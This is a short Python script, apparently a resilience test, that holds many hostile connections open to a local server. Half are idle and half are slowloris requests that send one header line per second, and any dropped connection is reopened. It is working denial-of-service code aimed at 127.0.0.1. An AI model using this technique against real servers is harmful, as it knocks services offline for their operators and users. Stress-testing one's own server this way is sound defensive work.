#!/usr/bin/env python3
"""Holds N hostile connections to 127.0.0.1:PORT for SECONDS: half idle
(connect, send nothing), half slowloris (a request head trickled one
header line per second). A connection the server closes is opened again,
as an attacker would. Prints how many were open at the end and how many
times the server closed one."""
import asyncio
import sys

port, n, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
state = {"open": 0, "closed_by_server": 0}


async def one(i, until):
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        state["open"] += 1
        try:
            if i % 2:
                w.write(b"GET /page HTTP/1.1\r\nHost: site.test\r\n")
            while loop.time() < until:
                if i % 2:
                    w.write(b"X-Slow: 1\r\n")
                    await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(1024), 1.0)
                    if not data:
                        state["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except (ConnectionError, OSError):
            state["closed_by_server"] += 1
        finally:
            state["open"] -= 1
            w.close()
    return


async def main():
    until = asyncio.get_running_loop().time() + seconds
    tasks = [asyncio.create_task(one(i, until)) for i in range(n)]
    await asyncio.sleep(seconds - 0.5)
    print(f"held {state['open']} of {n}; closed by the server {state['closed_by_server']} times", flush=True)
    await asyncio.gather(*tasks, return_exceptions=True)


asyncio.run(main())
